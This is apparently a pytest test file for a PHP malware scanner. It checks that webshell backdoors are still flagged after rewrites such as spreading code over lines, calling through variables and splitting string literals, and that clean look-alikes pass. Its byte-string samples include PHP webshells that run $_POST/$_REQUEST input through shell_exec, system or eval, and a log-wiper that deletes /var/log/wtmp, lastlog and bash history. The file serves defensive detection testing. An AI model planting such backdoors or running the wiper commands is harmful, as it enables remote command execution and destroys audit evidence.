"""Verdicts survive semantics-preserving rewrites (bench/scan_mutation_bench.py measures them on
the corpus): the same backdoor laid out, named, quoted or called another way is found the same,
and a clean look-alike rewritten the same way stays clean. Samples written for these tests."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scanner_helpers import analyze_bytes, rule_ids

from spamtrace.scanner.lexer import lex

# ------------------------------------------------------------------ white space and comments
LAID_OUT = [
    b"<?php\nshell_exec\n(\n$_POST['rc']\n);\n",
    b"<?php\nshell_exec\t\t($_POST\t['rc']);\n",
    b"<?php eval /**/ /* x */ (base64_decode($_POST['x']));\n",
    b"<?php\neval // run it\n(\n// the payload\nbase64_decode($_POST['x']));\n",
    b"<?php\nif (isset($_REQUEST['c']))\n{\n    system\n    (\n        $_REQUEST\n"
    b"        ['c']\n    )\n    ;\n}\n",
]


@pytest.mark.parametrize("sample", LAID_OUT)
def test_backdoor_found_however_laid_out(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "malicious", sample


def test_clean_code_laid_out_over_lines_stays_clean() -> None:
    sample = (
        b"<?php\n/**\n * Send the form.\n */\nfunction send_form(\n    $to,\n    $subject\n)\n{\n"
        b"    $headers = array(\n        'From: site@example.com',\n"
        b"        'Content-Type: text/plain',\n    );\n"
        b"    return wp_mail(\n        sanitize_email($to),\n        $subject,\n"
        b"        'Thanks',\n        $headers\n    );\n}\n"
    )
    assert analyze_bytes(sample).verdict.value == "clean"


def test_canonical_space_keeps_every_line_break() -> None:
    data = b"<?php\n$a = array(\n  1,\n  2\n);\nfoo\n(\n$b\n)\n;\n$c = 3;\n"
    code = lex(data).code
    assert code.count(b"\n") == data.count(b"\n")
    assert b"foo (" in code and b"\n(" not in code
    # a statement after a broken one keeps its line
    assert code.split(b"\n").index(b"$c = 3;") == 10


def test_canonical_space_is_idempotent_and_linear() -> None:
    from spamtrace.scanner.lexer import canonical_space

    data = b"; a\n(" * 50_000
    once = canonical_space(data)
    assert canonical_space(once) == once
    assert once.count(b"\n") == data.count(b"\n")


def test_finding_line_is_the_statement_start() -> None:
    sample = b"<?php\n$x = 1;\n\nshell_exec(\n  $_POST['c']\n);\n"
    hit = next(f for f in analyze_bytes(sample).findings if f.rule == "shell.exec-request-input")
    assert hit.line == 4
    assert "$_POST" in hit.excerpt  # the original text, found on the statement's lines
    assert rule_ids(analyze_bytes(sample))


def test_excerpt_is_the_original_text_when_a_literal_has_capitals() -> None:
    # the code is lower-cased but its literals are restored in their own case: the match
    # (`system('LS ' . $_get`) was not found on the line (lowered) and the lexed code was
    # shown instead, `$_get` for a line that says $_GET (`fputs($s, 'MAIL FROM:<' . $_post`)
    sample = b"<?php\n$x = 1;\nsystem(\"LS \" . $_GET['x']);\n"
    hits = [f for f in analyze_bytes(sample).findings if f.line == 3]
    assert hits
    assert {f.excerpt for f in hits} == {'system("LS " . $_GET[\'x\']);'}


# ------------------------------------------------------------------ calls through variables
THROUGH_VARIABLES = [
    b"<?php\n$run = 'call_user_func';\n$run('assert', $_POST['x']);\n",
    b"<?php\n$p = 'preg_replace';\n$p('/x/e', $_POST['c'], 'x');\n",
]


@pytest.mark.parametrize("sample", THROUGH_VARIABLES)
def test_calls_through_variables_are_read_as_calls(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "malicious", sample


def test_clean_calls_through_variables_stay_clean() -> None:
    sample = (
        b"<?php\nfunction shout(array $names) {\n    $upper = 'strtoupper';\n"
        b"    $map = 'array_map';\n    $out = $map('trim', $names);\n"
        b"    foreach ($out as $i => $n) {\n        $out[$i] = $upper($n);\n    }\n"
        b"    return implode(', ', $out);\n}\necho shout(array(' ann', 'bob '));\n"
    )
    assert analyze_bytes(sample).verdict.value == "clean"


def test_a_variable_rewritten_elsewhere_is_not_read_as_its_literal() -> None:
    from spamtrace.scanner.fold import inline_name_variables

    lx = lex(b"<?php $f = 'strlen'; foreach ($list as $f) { $f($x); }\n")
    assert inline_name_variables(lx) is None
    lx = lex(b"<?php $f = 'strlen'; echo $f($x);\n")
    assert inline_name_variables(lx) == lx.code.replace(b"$f(", b"strlen(")


# ------------------------------------------------------------------ glued literals, superglobals
# ~8 KB of plain helpers: the samples below are not small files, so no size bonus decides them
_PAD = b"".join(
    b"function helper%d($a) { return strtoupper(trim($a)) . '-%d'; }\n" % (i, i) for i in range(80)
)
REWRITTEN_NAMES = [
    # a superglobal named through $GLOBALS with a glued key, inside a function
    b"<?php\nfunction run() {\n    system($GLOBALS['_' . 'POST']['c']);\n}\nrun();\n" + _PAD,
    b"<?php\nfunction run() {\n    $c = $GLOBALS['_REQ' . 'UEST']['c'];\n    echo shell_exec($c);\n"
    b"}\nrun();\n" + _PAD,
    # a log wiper's commands cut into glued pieces
    b"<?php\n$w = array('rm -rf /var/lo' . 'g/wtmp', 'find / -name .bash' . '_history -exec rm "
    b"-rf {} \\\\;', 'rm -rf /var/lo' . 'g/lastlog', 'unset HIST' . 'FILE');\n"
    b"foreach ($w as $c) { shell_exec($c); }\n",
]


@pytest.mark.parametrize("sample", REWRITTEN_NAMES)
def test_glued_literals_and_superglobal_aliases_are_read_through(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "malicious", sample


def test_clean_glued_literals_and_globals_stay_clean() -> None:
    sample = (
        b"<?php\nfunction site_host() {\n    return strtolower($GLOBALS['_SER' . 'VER']"
        b"['HTTP_HOST']);\n}\n$greeting = 'Hello, ' . 'world' . '!';\n"
        b"echo htmlspecialchars($greeting . ' from ' . site_host());\n" + _PAD
    )
    assert analyze_bytes(sample).verdict.value == "clean"


# texts of statement ends, brackets, names and every kind of white space
_ALPHABET = bytes.maketrans(bytes(range(256)), (b";{}()a$ \t\n\r\x0b\x0c" * 20)[:256])


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200).map(lambda b: bytes(b).translate(_ALPHABET)))
def test_canonical_space_keeps_line_breaks_on_any_text(text: bytes) -> None:
    from spamtrace.scanner.lexer import canonical_space

    out = canonical_space(text)
    assert out.count(b"\n") == text.count(b"\n")
    assert canonical_space(out) == out
    # only white space changes: the other bytes stay, in order
    assert b"".join(out.split()) == b"".join(text.split())


def test_canonical_space_joins_a_bounded_number_of_statements() -> None:
    """A file of millions of broken statements costs at most MAX_JOINED joins (the Python
    work is per statement); the rest stays as written, its line breaks where they were."""
    from spamtrace.scanner.lexer import MAX_JOINED, canonical_space

    text = b";a\n(" * (MAX_JOINED + 50)
    out = canonical_space(text)
    assert out.count(b"\n") == text.count(b"\n")
    assert out.startswith(b";a (;\n")
    assert out.endswith(b";a\n(")
